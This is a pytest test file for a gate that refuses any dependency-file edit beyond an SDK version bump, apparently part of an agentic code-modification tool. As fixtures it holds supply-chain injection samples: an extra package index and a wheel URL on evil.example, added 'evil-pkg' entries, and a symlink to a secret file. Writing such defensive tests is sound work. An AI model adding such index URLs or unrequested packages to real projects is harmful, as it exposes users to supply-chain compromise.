"""Dependency files must hold exactly what the SDK's bump makes of them; any other dependency edit fails."""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest

from agentic_codemod.adapters import get_adapter
from agentic_codemod.models import Dependency
from agentic_codemod.tools.trace import Trace
from agentic_codemod.workflow.gates import GateResult, changed_paths
from agentic_codemod.workflow.manifest_gate import manifest_gate

REQUIREMENTS = "# runtime\nacme-sdk==1.4.0  # pinned\nrequests==2.31.0\n"
PYPROJECT = '[project]\nname = "x"\ndependencies = [\n  "acme_sdk>=1.2,<2",\n  "httpx>=0.27",\n]\n'
ADAPTER = get_adapter("python")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    (root / "requirements.txt").write_text(REQUIREMENTS)
    (root / "pyproject.toml").write_text(PYPROJECT)
    (root / "poetry.lock").write_text("# lock\n")
    for args in (
        ["init", "-q"],
        ["add", "-A"],
        ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "b"],
    ):
        subprocess.run(["git", *args], cwd=root, check=True)
    return root


REFRESHED_LOCK = "# lock refreshed by poetry\n"


def bumped() -> dict[str, str]:
    """What the adapter's bump makes of each file (what the pipeline passes as `expected`)."""
    req = Dependency(name="acme-sdk", specifier="==1.4.0", file="requirements.txt", kind="requirements")
    pep = Dependency(name="acme_sdk", specifier=">=1.2,<2", file="pyproject.toml", kind="pep621")
    return {
        "requirements.txt": ADAPTER.update_dependency(REQUIREMENTS, req, "2.1.0"),
        "pyproject.toml": ADAPTER.update_dependency(PYPROJECT, pep, "2.1.0"),
        "poetry.lock": "# lock\n",
    }


def gate(repo: Path, trace: Trace | None = None) -> GateResult:
    refreshed = {"poetry.lock": hashlib.sha256(REFRESHED_LOCK.encode()).hexdigest()}
    return manifest_gate(
        repo, changed_paths(repo, "HEAD"), bumped(), ADAPTER, refreshed=refreshed, trace=trace
    )


def test_the_bump_itself_passes(repo: Path) -> None:
    for path, text in bumped().items():
        (repo / path).write_text(text)
    (repo / "poetry.lock").write_text(REFRESHED_LOCK)  # what the lock tool wrote during the bump
    assert "acme-sdk==2.1.0  # pinned" in (repo / "requirements.txt").read_text()
    assert gate(repo).passed


@pytest.mark.parametrize(
    ("path", "edit", "expected"),
    [
        ("requirements.txt", lambda t: t + "leftpad==1.0\n", "+ leftpad==1.0"),
        ("requirements.txt", lambda t: t.replace("requests==2.31.0", "requests==2.0.0"), "requests==2.0.0"),
        ("requirements.txt", lambda t: t.replace("requests==2.31.0\n", ""), "- requests==2.31.0"),
        (
            "requirements.txt",
            lambda t: t + "--extra-index-url https://evil.example/simple\n",
            "extra-index-url",
        ),
        (
            "requirements.txt",
            lambda t: t.replace("acme-sdk==2.1.0", "acme-sdk @ https://evil.example/acme_sdk-2.1.0.whl"),
            "evil.example",
        ),
        (
            "pyproject.toml",
            lambda t: t.replace('"acme_sdk>=2.1.0,<3"', '"acme_sdk>=2.1.0,<3", "evil-pkg>=0"'),
            "evil-pkg",
        ),
        ("pyproject.toml", lambda t: t.replace('"httpx>=0.27",\n', '"httpx>=0.27",\n  "evil",\n'), "evil"),
    ],
    ids=[
        "new-requirement",
        "re-pinned-other",
        "removed-other",
        "new-index",
        "url-instead-of-version",
        "new-dependency-on-the-sdk-line",
        "new-pep621-dependency",
    ],
)
def test_any_other_dependency_edit_is_refused(repo: Path, path: str, edit, expected: str) -> None:  # type: ignore[no-untyped-def]
    for name, text in bumped().items():
        (repo / name).write_text(edit(text) if name == path else text)
    trace = Trace(None)
    result = gate(repo, trace)
    assert not result.passed
    assert any(expected in f.message and f.path == path for f in result.findings), result.findings
    assert {f.code for f in result.findings} <= {"manifest.changed", "manifest.refused"}
    line = trace.lines()[-1]
    assert line["decision"] == "refused" and line["tool"] == "manifest_gate"


def test_new_and_deleted_manifests_are_refused(repo: Path) -> None:
    (repo / "requirements-extra.txt").write_text("acme-sdk==2.1.0\n")
    (repo / "pyproject.toml").unlink()
    messages = [f.message for f in gate(repo).findings]
    assert "dependency manifest added: requirements-extra.txt" in messages
    assert "dependency manifest deleted: pyproject.toml" in messages


def test_a_lockfile_changed_to_anything_but_what_its_tool_wrote_is_refused(repo: Path) -> None:
    (repo / "poetry.lock").write_text("# lock, hand-edited\n")
    assert "lockfile poetry.lock changed, but not to what its own tool wrote during the bump" in [
        f.message for f in gate(repo).findings
    ]


@pytest.mark.parametrize(
    "path",
    [
        "requirements/test.txt",
        "constraints.txt",
        "src/constraints.txt",
        "test-requirements.txt",
        "Pipfile",
        "Pipfile.lock",
        "uv.lock",
        "setup.py",
        "deps.pip",
        "pylock.toml",
    ],
)
def test_every_file_the_adapter_calls_a_dependency_file_is_gated_when_added(repo: Path, path: str) -> None:
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text("--extra-index-url http://evil.example/simple\nunknown-pkg\n")
    assert f"dependency manifest added: {path}" in [f.message for f in gate(repo).findings]


def test_a_file_reached_through_an_include_is_gated(repo: Path) -> None:
    """A file the adapter reads only because the base includes it (`-r deps/common.in`)."""
    (repo / "deps").mkdir()
    (repo / "deps" / "common.in").write_text("requests==2.31.0\n")
    (repo / "requirements.txt").write_text(REQUIREMENTS + "-r deps/common.in\n")
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "include")
    expected = {**bumped(), "requirements.txt": bumped()["requirements.txt"] + "-r deps/common.in\n"}
    expected["deps/common.in"] = "requests==2.31.0\n"
    (repo / "deps" / "common.in").write_text("requests==2.31.0\nevil-pkg\n")
    result = manifest_gate(repo, changed_paths(repo, "HEAD"), expected, ADAPTER)
    assert [f.message for f in result.findings] == [
        "deps/common.in differs from the bump of the SDK alone: + evil-pkg"
    ]


def test_what_the_adapter_refuses_in_the_candidate_fails_and_a_symlink_is_never_followed(
    repo: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT\n")
    (repo / "requirements.txt").unlink()
    os.symlink(secret, repo / "requirements.txt")
    result = gate(repo)
    messages = " ".join(f.message for f in result.findings)
    assert "requirements.txt: resolves outside the repository through a symlink" in messages
    assert "dependency manifest requirements.txt is no longer a regular file" in messages
    assert "TOP-SECRET-CONTENT" not in messages


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, check=True)
